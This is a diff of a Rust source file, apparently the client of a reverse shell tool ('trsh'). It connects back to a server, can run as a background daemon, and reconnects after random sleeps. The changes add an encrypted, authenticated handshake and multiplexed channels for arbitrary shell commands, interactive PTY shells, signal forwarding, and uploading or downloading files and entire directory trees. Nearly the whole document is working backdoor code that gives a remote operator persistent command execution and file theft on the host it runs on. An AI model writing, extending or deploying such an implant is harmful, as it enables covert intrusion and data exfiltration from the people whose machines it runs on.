@@ -13,42 +13,54 @@
 //! the following env variables can be set:
 //! TRSH_NOLOOP=1 to make a one shot backconnect
 //! TRSH_DAEMON=1 to run in the background
+//!
+//! a connection stays open until the server closes the session, then the
+//! client reconnects after a random sleep unless started with TRSH_NOLOOP=1.
+//! every command of the server arrives on its own mux channel and runs in
+//! its own thread, so commands run concurrently
 //! 
 //! the keys for encryption are set in build.rs
 
-use cryptolib::cryptolib_salsa::Crypto;
+use cryptolib::compress::Compressor;
+use cryptolib::cryptolib_handshake;
+use cryptolib::mux::{Channel, Mux};
+use cryptolib::protocol::{self, read_message, write_message, Compression, Message};
+use cryptolib::transfer;
+use cryptolib::tree;
+use cryptolib::tty_modes;
 use std::env;
+use std::io;
 use std::io::BufReader;
 use std::net::SocketAddr;
 use std::net::TcpStream;
+use std::os::unix::process::ExitStatusExt;
 use std::path;
 use std::process;
-use std::process::{Command, Stdio};
-use std::{
-    fs::File,
-    io::prelude::*,
-    sync::mpsc::{self, Receiver, Sender},
-};
+use std::process::{ChildStdin, Command, Stdio};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, Mutex};
+use std::{fs::File, io::prelude::*};
 
 use rand::{thread_rng, Rng};
-use std::os::unix::io::{AsRawFd, FromRawFd};
+use std::os::unix::io::{AsRawFd, FromRawFd, RawFd};
 use std::os::unix::process::CommandExt;
 use std::{thread, time};
 
 use daemonize::Daemonize;
 
-/// key for the encryption - 16 bytes for aes128 - 32 bytes for salsa20
-const KEY: &'static [u8] = env!("TRSH_KEY").as_bytes();
-/// iv for the encryption - 16 bytes for aes128 - 8 bytes for salsa20
-const IV: &'static [u8] = env!("TRSH_IV").as_bytes();
+/// static key authenticating the key exchange - 32 bytes,
+/// the session keys are negotiated per connection
+const KEY: &[u8] = env!("TRSH_KEY").as_bytes();
 
-/// id of the client, checked by server
-const ID: &'static str = env!("TRSH_ID");
+/// id of the client, shown by the server
+const ID: &str = env!("TRSH_ID");
 
 /// sleep minimum time in seconds
 const SLEEP_MIN: u32 = 5;
 /// sleep maximum time in seconds
 const SLEEP_MAX: u32 = 15;
+/// time a killed command gets between SIGTERM and SIGKILL
+const KILL_GRACE: time::Duration = time::Duration::from_secs(5);
 
 /// starting point of the client
 fn main() {
@@ -76,14 +88,8 @@ fn main() {
     let mut rng = thread_rng();
     loop {
         println!("Connecting to ... {}", &server_addr);
-        match TcpStream::connect(&server_addr) {
-            Ok(s) => {
-                if !noloop {
-                    handle_command_plain(s);
-                } else {
-                    thread::spawn(move || handle_command_plain(s));
-                }
-            }
+        match TcpStream::connect(server_addr) {
+            Ok(s) => handle_command_plain(s),
             Err(e) => {
                 println!("no connection ... {}", e);
             }
@@ -100,98 +106,364 @@ fn main() {
     }
 }
 
-/// handles the incoming command from the server
-fn handle_command_plain(mut stream: TcpStream) {
-    let mut cr = Crypto::new(KEY, IV).unwrap();
-    let mut buffer = [0; 1024];
-
-    cr.write(ID.as_bytes()).unwrap();
-
-    println!("Len CR Buffer: {}", cr.buffer().len());
-
-    stream.write(&cr.buffer()).unwrap();
-    stream.flush().unwrap();
-
-    let bytes_read = stream.read(&mut buffer).unwrap();
-    cr.read(&mut buffer).unwrap();
-    println!("read bytes: {}", bytes_read);
+/// handles the incoming commands from the server until it closes the session
+fn handle_command_plain(stream: TcpStream) {
+    let keys = match cryptolib_handshake::client_handshake(&mut &stream, KEY) {
+        Ok(keys) => keys,
+        Err(e) => {
+            println!("Handshake failed: {}", e);
+            return;
+        }
+    };
+    let (mut writer, reader) = match keys.open_channel(&stream) {
+        Ok(channel) => channel,
+        Err(e) => {
+            println!("Error opening channel: {}", e);
+            return;
+        }
+    };
 
-    let cmd = String::from_utf8_lossy(&cr.buffer()[..bytes_read]);
+    let hello = Message::Hello { id: ID.to_string() };
+    if let Err(e) = write_message(&mut writer, &hello) {
+        println!("Error sending hello: {}", e);
+        return;
+    }
 
-    println!("Command: {}", cmd);
+    let mux = match Mux::client(writer, reader) {
+        Ok(mux) => mux,
+        Err(e) => {
+            println!("Error starting mux: {}", e);
+            return;
+        }
+    };
 
-    if cmd.starts_with("GET") {
-        let v: Vec<&str> = cmd.split('|').collect();
-        println!("GET {}", v[1]);
-        let mut cr = Crypto::new(KEY, IV).unwrap();
-        let input = match File::open(v[1]) {
-            Ok(input) => input,
+    loop {
+        let mut channel = match mux.accept() {
+            Ok(channel) => channel,
             Err(e) => {
-                println!("Error opening file: {}", e);
+                println!("Error accepting channel: {}", e);
                 return;
             }
         };
-        let mut bufreader = BufReader::new(input);
-        let (tx, _rx): (Sender<u64>, Receiver<u64>) = mpsc::channel();
-        match cr.copy_buf(&mut bufreader, &mut stream, &tx) {
-            Ok(cnt) => println!("{} bytes were transferred", cnt),
+        let cmd = match read_message(&mut channel) {
+            Ok(cmd) => cmd,
             Err(e) => {
-                println!("error copying data: {}", e);
-                return;
+                println!("Error reading command: {}", e);
+                continue;
             }
         };
-        drop(bufreader);
-    } else if cmd.starts_with("PUT") {
-        let v: Vec<&str> = cmd.split('|').collect();
-        println!("PUT {} to {}", v[1], v[2]);
-        let mut cr = Crypto::new(KEY, IV).unwrap();
-        let target_path = path::Path::new(v[2]).join(v[1]);
-        let mut output = match File::create(target_path) {
-            Ok(output) => output,
-            Err(e) => {
-                println!("Error creating file: {}", e);
+
+        println!("Command on channel {}: {:?}", channel.id(), cmd);
+
+        if cmd == Message::Close {
+            println!("Session closed by server");
+            return;
+        }
+        thread::spawn(move || handle_request(channel, cmd));
+    }
+}
+
+/// runs one request of the server on its channel
+fn handle_request(mut channel: Channel, cmd: Message) {
+    match cmd {
+        Message::Get { path, compression } => handle_get(&mut channel, &path, compression),
+        Message::Put {
+            name,
+            target_dir,
+            compression,
+        } => handle_put(&mut channel, &name, &target_dir, compression),
+        Message::GetTree {
+            path,
+            include,
+            exclude,
+            compression,
+        } => handle_get_tree(&mut channel, &path, &include, &exclude, compression),
+        Message::PutTree {
+            target_dir,
+            compression,
+        } => handle_put_tree(&mut channel, &target_dir, compression),
+        Message::Shell {
+            cols,
+            rows,
+            program,
+            args,
+            env,
+            cwd,
+            term,
+            modes,
+        } => {
+            println!("Allocating shell {}, {}", cols, rows);
+            let mut shell = match program {
+                Some(program) => {
+                    let mut shell = Command::new(program);
+                    shell.args(args);
+                    shell
+                }
+                None => {
+                    let mut shell = Command::new(default_shell());
+                    shell.arg("-i").args(args);
+                    shell
+                }
+            };
+            // the environment of the request overrides TERM
+            if let Some(term) = term {
+                shell.env("TERM", term);
+            }
+            shell.envs(env);
+            if let Some(cwd) = cwd {
+                shell.current_dir(cwd);
+            }
+            allocate_shell(channel, cols, rows, &modes, shell);
+        }
+        Message::Exec {
+            command,
+            compression,
+        } => {
+            let mut shell = Command::new("/bin/sh");
+            shell.arg("-c").arg(command);
+            handle_exec(channel, shell, compression);
+        }
+        Message::ExecArgv {
+            argv,
+            cwd,
+            env,
+            compression,
+        } => match argv.split_first() {
+            Some((program, args)) => {
+                let mut command = Command::new(program);
+                command.args(args).envs(env);
+                if let Some(cwd) = cwd {
+                    command.current_dir(cwd);
+                }
+                handle_exec(channel, command, compression);
+            }
+            None => {
+                let _ = write_message(&mut channel, &Message::Error("empty argv".to_string()));
+            }
+        },
+        msg => println!("Unexpected command: {}", msg.name()),
+    }
+}
+
+// sends a file to the server
+fn handle_get(channel: &mut Channel, path: &str, compression: Compression) {
+    println!("GET {}", path);
+    match transfer::send_file(channel, path::Path::new(path), compression, None) {
+        Ok(done) => println!("{}", done),
+        Err(e) => println!("error sending {}: {}", path, e),
+    };
+}
+
+// receives a file from the server, the result is reported with Eof or Error
+fn handle_put(channel: &mut Channel, name: &str, target_dir: &str, compression: Compression) {
+    println!("PUT {} to {}", name, target_dir);
+    let target_path = path::Path::new(target_dir).join(name);
+    let reply = match transfer::recv_file(channel, &target_path, compression, None) {
+        Ok(done) => {
+            println!("{}", done);
+            Message::Eof
+        }
+        Err(e) => {
+            println!("error receiving {}: {}", target_path.display(), e);
+            Message::Error(format!("could not write {}: {}", target_path.display(), e))
+        }
+    };
+    let _ = write_message(channel, &reply);
+}
+
+// sends a directory tree to the server
+fn handle_get_tree(
+    channel: &mut Channel,
+    path: &str,
+    include: &[String],
+    exclude: &[String],
+    compression: Compression,
+) {
+    println!("GET tree {}", path);
+    let result = tree::Filter::new(include, exclude).and_then(|filter| {
+        tree::send_tree(channel, path::Path::new(path), &filter, compression, None)
+    });
+    match result {
+        Ok(done) => {
+            for skipped in &done.skipped {
+                println!("skipped {}", skipped);
+            }
+            println!("{}", done);
+        }
+        Err(e) => {
+            println!("error sending {}: {}", path, e);
+            let _ = write_message(
+                channel,
+                &Message::Error(format!("could not send {}: {}", path, e)),
+            );
+        }
+    }
+}
+
+// receives a directory tree from the server, the result is reported with Eof
+// or Error
+fn handle_put_tree(channel: &mut Channel, target_dir: &str, compression: Compression) {
+    println!("PUT tree to {}", target_dir);
+    let reply = match tree::recv_tree(channel, path::Path::new(target_dir), compression, None) {
+        Ok(done) => {
+            for skipped in &done.skipped {
+                println!("skipped {}", skipped);
+            }
+            println!("{}", done);
+            Message::Eof
+        }
+        Err(e) => {
+            println!("error receiving tree: {}", e);
+            Message::Error(format!("could not write tree to {}: {}", target_dir, e))
+        }
+    };
+    let _ = write_message(channel, &reply);
+}
+
+// runs a command and sends its stdout, stderr and exit status, the output
+// is compressed
+fn handle_exec(mut channel: Channel, mut command: Command, compression: Compression) {
+    let mut child = match command
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .process_group(0)
+        .spawn()
+    {
+        Ok(child) => child,
+        Err(e) => {
+            println!("Could not execute command: {}", e);
+            let _ = write_message(
+                &mut channel,
+                &Message::Error(format!("could not execute command: {}", e)),
+            );
+            return;
+        }
+    };
+
+    let stdin = child.stdin.take().unwrap();
+    let input_channel = channel.clone();
+    // the command runs in its own process group, a kill reaches its children too
+    let pgid = child.id() as i32;
+    let exited = Arc::new(AtomicBool::new(false));
+    let command_exited = exited.clone();
+    ::std::thread::spawn(move || forward_input(input_channel, stdin, pgid, &command_exited));
+
+    // stdout and stderr are sent from two threads, a message must not be split
+    let channel = Arc::new(Mutex::new(channel));
+    let stderr = child.stderr.take().unwrap();
+    let stderr_channel = channel.clone();
+    let stderr_thread =
+        ::std::thread::spawn(move || send_output(stderr, &stderr_channel, true, compression));
+
+    let mut result = send_output(child.stdout.take().unwrap(), &channel, false, compression);
+    if let Ok(stderr_result) = stderr_thread.join() {
+        result = result.and(stderr_result);
+    }
+    if let Err(e) = result {
+        println!("Error sending output: {}", e);
+        let _ = child.kill();
+    }
+    let status = exit_message(child.wait());
+    exited.store(true, Ordering::SeqCst);
+    let _ = write_message(&mut *channel.lock().unwrap(), &status);
+}
+
+/// writes the stdin sent by the server to the command until the channel
+/// closes, a Kill of the server terminates the process group of the command
+fn forward_input(mut channel: Channel, stdin: ChildStdin, pgid: i32, exited: &AtomicBool) {
+    // stdin is dropped at the Eof of the server, so the command sees the end of its input
+    let mut stdin = Some(stdin);
+    loop {
+        match read_message(&mut channel) {
+            Ok(Message::Data(data)) => {
+                if let Some(pipe) = &mut stdin {
+                    if pipe.write_all(&data).and_then(|_| pipe.flush()).is_err() {
+                        // the command does not read its input anymore
+                        stdin = None;
+                    }
+                }
+            }
+            Ok(Message::Eof) => stdin = None,
+            Ok(Message::Kill) => {
+                println!("Command timed out, terminating process group {}", pgid);
+                kill_process_group(pgid, exited);
+            }
+            Ok(msg) => {
+                println!("Error forwarding stdin: {}", protocol::unexpected(&msg));
                 return;
             }
-        };
-        let (tx, _rx): (Sender<u64>, Receiver<u64>) = mpsc::channel();
-        match cr.copy_buf(&mut stream, &mut output, &tx) {
-            Ok(cnt) => println!("{} bytes were transferred", cnt),
+            Err(ref e) if e.kind() == io::ErrorKind::UnexpectedEof => return,
             Err(e) => {
-                println!("error copying data: {}", e);
+                println!("Error forwarding stdin: {}", e);
                 return;
             }
+        }
+    }
+}
+
+/// sends SIGTERM to the process group and SIGKILL if the command still
+/// runs after the grace period
+fn kill_process_group(pgid: i32, exited: &AtomicBool) {
+    if exited.load(Ordering::SeqCst) {
+        return;
+    }
+    unsafe { libc::kill(-pgid, libc::SIGTERM) };
+    let deadline = time::Instant::now() + KILL_GRACE;
+    while time::Instant::now() < deadline {
+        if exited.load(Ordering::SeqCst) {
+            return;
+        }
+        thread::sleep(time::Duration::from_millis(100));
+    }
+    println!("Command ignored SIGTERM, killing process group {}", pgid);
+    unsafe { libc::kill(-pgid, libc::SIGKILL) };
+}
+
+/// sends the output of a pipe as Data messages, or as Stderr messages for stderr.
+/// stdout and stderr are compressed as separate streams
+fn send_output<R: Read>(
+    pipe: R,
+    channel: &Mutex<Channel>,
+    stderr: bool,
+    compression: Compression,
+) -> io::Result<()> {
+    let mut pipe = BufReader::new(pipe);
+    let mut compressor = Compressor::new(compression)?;
+    let mut buffer = vec![0; protocol::DATA_CHUNK];
+    loop {
+        let len = match pipe.read(&mut buffer) {
+            Ok(0) => return Ok(()),
+            Ok(len) => len,
+            Err(ref e) if e.kind() == io::ErrorKind::Interrupted => continue,
+            Err(e) => return Err(e),
+        };
+        let data = compressor.compress(&buffer[..len])?;
+        let msg = if stderr {
+            Message::Stderr(data)
+        } else {
+            Message::Data(data)
         };
+        write_message(&mut *channel.lock().unwrap(), &msg)?;
+    }
+}
 
-        drop(output);
-    } else if cmd.starts_with("SHELL") {
-        let v: Vec<&str> = cmd.split('|').collect();
-        println!("Allocating shell {}, {}", v[1], v[2]);
-        let w = v[1].parse().expect("not a number");
-        let h = v[2].parse().expect("not a number");
-        allocate_shell(stream, w, h);
-    } else {
-        let child = Command::new("/bin/sh")
-            .arg("-c")
-            .arg(&cmd.to_string())
-            .stdout(Stdio::piped())
-            .stderr(Stdio::piped())
-            .spawn()
-            .expect("Could not execute command");
-
-        cr = Crypto::new(KEY, IV).unwrap();
-        let mut bufreader = BufReader::new(child.stdout.unwrap());
-        cr.copy(&mut bufreader, &mut stream)
-            .expect("could not read stdout");
-    }
-}
-
-//allocate a shell
-fn allocate_shell(s: TcpStream, w: u16, h: u16) {
-    let mut s_reader = unsafe { File::from_raw_fd(s.as_raw_fd()) };
-    let mut s_writer = s.try_clone().unwrap();
-    
+/// the first existing shell of $SHELL, bash and sh
+fn default_shell() -> String {
+    env::var("SHELL")
+        .into_iter()
+        .chain(vec!["/bin/bash".to_string(), "/bin/sh".to_string()])
+        .find(|shell| path::Path::new(shell).is_file())
+        .unwrap_or_else(|| "/bin/sh".to_string())
+}
+
+//allocate a shell, returns once the shell and its streams ended
+fn allocate_shell(channel: Channel, w: u16, h: u16, modes: &[(u8, u32)], mut cmd: Command) {
     use libc::winsize;
 
+    let mut s_writer = channel.clone();
+    let mut s_reader = channel;
+
     let wsize = winsize {
         ws_row: h,
         ws_col: w,
@@ -200,52 +472,172 @@ fn allocate_shell(s: TcpStream, w: u16, h: u16) {
     };
     use nix::pty;
 
-    let npty = pty::openpty(Some(&wsize), None).expect("openpty failed");
-    let master = npty.master;
-    let slave = npty.slave;
-
-    let mut cmd = Command::new("/bin/bash");
-    cmd.arg("-i");
-    cmd.stdin(unsafe { Stdio::from_raw_fd(slave) });
-    cmd.stdout(unsafe { Stdio::from_raw_fd(slave) });
-    cmd.stderr(unsafe { Stdio::from_raw_fd(slave) });
-    unsafe {
-        cmd.pre_exec(|| {
-            let _ = libc::setsid();
-            Ok(())
-        })
-    };
+    let spawned = pty::openpty(Some(&wsize), None)
+        .map_err(|e| io::Error::other(e.to_string()))
+        .and_then(|npty| {
+            let master = unsafe { File::from_raw_fd(npty.master) };
+            let slave = unsafe { File::from_raw_fd(npty.slave) };
+            if let Err(e) = tty_modes::apply_modes(slave.as_raw_fd(), modes) {
+                println!("Error setting terminal modes: {}", e);
+            }
 
-    let mut process = match cmd.spawn() {
-        Ok(p) => p,
-        Err(e) => panic!("Failed to execute process: {}", e),
+            cmd.stdin(slave.try_clone()?);
+            cmd.stdout(slave.try_clone()?);
+            cmd.stderr(slave);
+            unsafe {
+                cmd.pre_exec(|| {
+                    let _ = libc::setsid();
+                    // the pty becomes the controlling terminal, for job control and ^C
+                    let _ = libc::ioctl(0, libc::TIOCSCTTY as _, 0);
+                    Ok(())
+                })
+            };
+            let process = cmd.spawn()?;
+            let l_stdin = master.try_clone()?;
+            Ok((cmd, process, master, l_stdin))
+        });
+    let (cmd, mut process, master, mut l_stdin) = match spawned {
+        Ok(spawned) => spawned,
+        Err(e) => {
+            println!("Failed to execute process: {}", e);
+            let _ = write_message(
+                &mut s_writer,
+                &Message::Error(format!("could not allocate shell: {}", e)),
+            );
+            // the server still closes the shell input
+            while let Ok(msg) = read_message(&mut s_reader) {
+                if msg == Message::Eof {
+                    break;
+                }
+            }
+            return;
+        }
     };
 
-    println!("spawned {} on {}", process.id(), "PTY");
+    println!("spawned {} on PTY", process.id());
 
-    let mut l_stdin = unsafe { File::from_raw_fd(master) };
-    let mut l_stdout = unsafe { File::from_raw_fd(master) };
+    let pgid = process.id() as libc::pid_t;
+    let exited = Arc::new(AtomicBool::new(false));
+    let mut l_stdout = PtyMaster {
+        master,
+        exited: exited.clone(),
+    };
+    let mut status_writer = s_writer.clone();
+    let shell_exited = exited.clone();
+    let input = ::std::thread::spawn(move || {
+        if let Err(e) = forward_shell_input(&mut s_reader, &mut l_stdin) {
+            println!("Error copy: {}", e);
+        }
+        // the server closed the shell input, hang up like a closed terminal
+        if !shell_exited.load(Ordering::SeqCst) {
+            unsafe { libc::kill(-pgid, libc::SIGHUP) };
+        }
+    });
+    let output = ::std::thread::spawn(move || {
+        if let Err(e) = protocol::send_stream(&mut l_stdout, &mut s_writer, None) {
+            println!("Error copy: {}", e);
+        }
+    });
+
+    let es = process.wait();
+    exited.store(true, Ordering::SeqCst);
+
+    // closing the slave lets the output copy see the end of the pty, the
+    // threads close their ends of the pty master
+    drop(cmd);
+    let _ = output.join();
+    match &es {
+        Ok(es) => println!("quit {}", es),
+        Err(e) => println!("Error process wait: {}", e),
+    }
+    // the status follows the Eof of the output, the server ends the input then
+    if let Err(e) = write_message(&mut status_writer, &exit_message(es)) {
+        println!("Error sending exit status: {}", e);
+    }
+    let _ = input.join();
+}
 
-    ::std::thread::spawn(move || copyio(&mut s_reader, &mut l_stdin));
-    ::std::thread::spawn(move || copyio(&mut l_stdout, &mut s_writer));
+/// ExitSignal for a command killed by a signal, ExitStatus otherwise
+fn exit_message(status: io::Result<process::ExitStatus>) -> Message {
+    match status {
+        Ok(status) => match status.signal() {
+            Some(signal) => Message::ExitSignal(signal),
+            None => Message::ExitStatus(status.code().unwrap_or(-1)),
+        },
+        Err(_) => Message::ExitStatus(-1),
+    }
+}
 
-    let es = match process.wait() {
-        Ok(e) => e,
-        Err(e) => panic!("Error process wait: {}", e),
-    };
+/// writes the shell input of the server to the pty master until Eof,
+/// applies the Resize messages to the pty and delivers the Signal messages
+fn forward_shell_input(channel: &mut Channel, master: &mut File) -> io::Result<()> {
+    loop {
+        match read_message(channel)? {
+            Message::Data(data) => master.write_all(&data)?,
+            Message::Resize { cols, rows } => {
+                if let Err(e) = set_window_size(master.as_raw_fd(), cols, rows) {
+                    println!("Error resizing pty: {}", e);
+                }
+            }
+            Message::Signal(signal) => {
+                // the foreground process group of the pty, like ^C on a terminal
+                let pgrp = unsafe { libc::tcgetpgrp(master.as_raw_fd()) };
+                if pgrp > 0 {
+                    unsafe { libc::kill(-pgrp, signal) };
+                }
+            }
+            Message::Eof => return Ok(()),
+            Message::Error(e) => return Err(io::Error::other(e)),
+            msg => return Err(protocol::unexpected(&msg)),
+        }
+    }
+}
 
-    println!("quit {}", es);
+/// sets the window size of a pty, the kernel sends SIGWINCH to the shell
+fn set_window_size(fd: RawFd, cols: u16, rows: u16) -> io::Result<()> {
+    let wsize = libc::winsize {
+        ws_row: rows,
+        ws_col: cols,
+        ws_xpixel: 0,
+        ws_ypixel: 0,
+    };
+    if unsafe { libc::ioctl(fd, libc::TIOCSWINSZ, &wsize) } < 0 {
+        return Err(io::Error::last_os_error());
+    }
+    Ok(())
 }
 
-// copies bytes from reader to writer
-fn copyio(rin: &mut dyn Read, rout: &mut dyn Write) {
-    let mut cr = Crypto::new(KEY, IV).unwrap();
+/// the pty master reports EIO once the slave side is closed,
+/// which is the end of the shell output. background jobs of the shell
+/// may keep the slave open, so the output also ends once the shell
+/// exited and the pty has no more output
+struct PtyMaster {
+    master: File,
+    exited: Arc<AtomicBool>,
+}
 
-    match cr.copy(rin, rout) {
-        Ok(b) => b,
-        Err(e) => {
-            println!("Error copy: {}", e);
-            return;
+impl Read for PtyMaster {
+    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
+        loop {
+            let mut pfd = libc::pollfd {
+                fd: self.master.as_raw_fd(),
+                events: libc::POLLIN,
+                revents: 0,
+            };
+            // wake up regularly to notice the exit of the shell
+            match unsafe { libc::poll(&mut pfd, 1, 100) } {
+                0 if self.exited.load(Ordering::SeqCst) => return Ok(0),
+                0 => continue,
+                n if n < 0 => match io::Error::last_os_error() {
+                    e if e.kind() == io::ErrorKind::Interrupted => continue,
+                    e => return Err(e),
+                },
+                _ => {}
+            }
+            return match self.master.read(buf) {
+                Err(ref e) if e.raw_os_error() == Some(libc::EIO) => Ok(0),
+                r => r,
+            };
         }
-    };
+    }
 }